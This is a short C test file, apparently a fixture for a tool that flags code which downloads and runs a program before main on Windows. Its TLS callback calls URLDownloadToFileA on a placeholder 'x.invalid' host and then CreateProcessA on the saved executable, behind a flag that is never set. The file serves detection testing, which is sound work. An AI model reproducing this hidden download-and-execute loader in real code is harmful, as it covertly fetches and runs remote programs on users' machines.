/* A program is fetched and started before main.
 * expect: native-load-fetches-and-starts-windows
 * for: windows
 * flags: -O2 -lurlmon
 */
#include <windows.h>
#include <urlmon.h>

static volatile int never;

static void NTAPI early(PVOID m, DWORD why, PVOID x) {
    (void)m, (void)x;
    if (!never || why != DLL_PROCESS_ATTACH) return;
    STARTUPINFOA s = {sizeof s};
    PROCESS_INFORMATION p;
    URLDownloadToFileA(0, "http://x.invalid/a", "C:\\nonexistent\\a.exe", 0, 0);
    CreateProcessA("C:\\nonexistent\\a.exe", 0, 0, 0, 0, 0, 0, 0, &s, &p);
}
__attribute__((section(".CRT$XLB"), used)) PIMAGE_TLS_CALLBACK callback = early;

int main(void) { return 0; }
